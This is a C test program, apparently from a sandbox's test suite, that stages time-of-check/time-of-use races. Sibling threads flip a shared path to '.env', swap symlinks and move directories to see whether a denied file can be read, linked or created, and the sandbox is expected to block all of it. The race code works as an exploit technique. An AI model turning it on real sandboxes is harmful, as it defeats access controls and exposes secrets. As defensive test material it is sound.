// SPDX-License-Identifier: Apache-2.0
// Tries:      to have one path decided on and another acted on: MODE DIR. A sibling thread, or a process that shares the page, keeps
//             changing the text of the path; a sibling keeps swapping a symbolic link; a directory moves while a name is made in it.
// Known from: every system call wrapper that looks at memory and then lets the call run (Watson, "Exploiting Concurrency
//             Vulnerabilities in System Call Wrappers", WOOT 2007).
// Must:       fail: nothing denied is read, moved, linked or made.
// Control:    the program's own check is evaded in the same way
#include "attack.h"
#include <dirent.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/mman.h>

static _Atomic uint64_t *shared;   // a path of at most seven bytes
static uint64_t good, bad;
static const char *mode;

static uint64_t name(const char *text) {
  uint64_t value = 0;
  memcpy(&value, text, strlen(text));
  return value;
}

static void *flip(void *unused) {
  for (;;) {
    *shared = bad;
    *shared = good;
  }
  return unused;
}

static void *swap_link(void *unused) {
  for (;;) {
    symlink("plain", "l1"), rename("l1", "link");
    symlink(".env", "l2"), rename("l2", "link");
  }
  return unused;
}

static void *make(void *unused) {
  for (;;) close(open("x/a.key", O_CREAT | O_RDWR, 0600)), unlink("x/a.key");
  return unused;
}

static void treasure(int fd) {
  char text[16] = "";
  if (fd < 0) return;
  if (read(fd, text, sizeof text - 1) > 0 && !strncmp(text, "TREASURE", 8)) won("%s: read it", mode);
  close(fd);
}

// What the check saw: the call that follows may see another. Others run in between, on one CPU too.
static int seems_good(void) {
  int seen = *shared == good;
  yields();
  return seen;
}

int main(int argc, char **argv) {
  if (argc < 3 || chdir(argv[2])) untried("%s", argv[2]);
  mode = argv[1];
  // The files come when the sandbox runs: what is there before is held by masks, and raced by nobody.
  for (int i = 0; access("plain", F_OK); i++, usleep(10000))
    if (i == 2000) untried("nothing comes");
  shared = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  char *path = (char *)shared;
  int creates = !strcmp(mode, "rename-new") || !strcmp(mode, "link-new");
  good = name(creates ? "new" : "plain"), bad = name(creates ? ".envnew" : ".env");
  *shared = good;
  pthread_t sibling;
  if (!strcmp(mode, "symlink")) pthread_create(&sibling, 0, swap_link, 0);
  else if (!strcmp(mode, "move")) pthread_create(&sibling, 0, make, 0);
  else if (strncmp(mode, "shared-", 7)) pthread_create(&sibling, 0, flip, 0);
  else if (fork() == 0) prctl(PR_SET_PDEATHSIG, SIGKILL), flip(0);
  const char *act = strncmp(mode, "shared-", 7) ? mode : mode + 7;
  struct timespec begin = now();
  long tries = 0;
  for (; !over(begin, tries); tries++) {
    if (!strcmp(act, "symlink")) {
      treasure(open("link", O_RDONLY));
    } else if (!strcmp(act, "move")) {
      mkdir("x", 0700), rename("x", "in");
      DIR *in = opendir("in");
      for (struct dirent *e; in && (e = readdir(in));)
        if (strstr(e->d_name, ".key")) won("move: made in/a.key");
      if (in) closedir(in);
      rename("in", "x");
    } else if (!seems_good()) {
      continue;
    } else if (!strcmp(act, "open")) {
      treasure(open(path, O_RDONLY));
    } else if (!strcmp(act, "rename-old")) {
      syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, "moved", RENAME_NOREPLACE);
      treasure(open("moved", O_RDONLY));
      rename("moved", "plain");
    } else if (!strcmp(act, "link-old")) {
      linkat(AT_FDCWD, path, AT_FDCWD, "linked", 0);
      treasure(open("linked", O_RDONLY));
      unlink("linked");
    } else if (creates) {
      if (!strcmp(act, "link-new")) linkat(AT_FDCWD, "plain", AT_FDCWD, path, 0);
      else rename("plain", path);
      DIR *here = opendir(".");
      for (struct dirent *e; (e = readdir(here));)
        if (!strcmp(e->d_name, ".envnew")) won("%s: made it", mode);
      closedir(here);
      if (!strcmp(act, "link-new")) unlink("new");
      else rename("new", "plain");
    }
  }
  printf("%ld tries, seed %u\n", tries, seed());
  held();
}
